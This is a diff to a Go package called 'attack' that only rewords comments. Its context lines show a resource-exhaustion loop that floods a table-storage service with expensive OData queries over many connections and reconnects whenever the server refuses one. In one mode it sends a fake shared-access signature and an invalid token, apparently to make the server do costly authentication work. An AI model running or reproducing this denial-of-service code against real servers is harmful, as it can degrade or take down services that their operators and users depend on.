@@ -1,5 +1,5 @@
-// Package attack sends requests that cost a server much and the client little, each as soon as the previous one is
-// answered.
+// Package attack sends requests that cost a server much and the client little. Each connection sends the next request
+// as soon as the previous one is answered.
 package attack
 
 import (
@@ -43,13 +43,14 @@ func Run(ctx context.Context, t wire.Target, table string, k Kind, connections i
 	return total.Load(), <-errs
 }
 
-// run is the loop of one connection. If the server refuses and closes it, run continues over a new one.
+// run sends the requests of one connection. If the server refuses a request and closes the connection, run opens a
+// new one.
 func run(ctx context.Context, t wire.Target, table string, k Kind, worker int, total *atomic.Int64) error {
 	path := []byte(t.Base + "/" + table + "()")
 	req := wire.Request{Method: "GET", Path: path, Query: []byte("$filter=Kind%20eq%20'none'"), Header: "Accept: application/json;odata=nometadata\r\n"}
 	if k == SignIns {
 		req.Query = []byte("sv=2019-02-02&sig=bm90aGluZw%3D%3D&tn=" + table + "&sp=r&se=2099-01-01T00:00:00Z")
-		t = t.WithToken("none=1") // use this token instead of a signature with the account key
+		t = t.WithToken("none=1") // send this token, which is invalid, instead of signing with the account key
 	}
 	for n := 0; ctx.Err() == nil; {
 		c, err := wire.Dial(ctx, t)
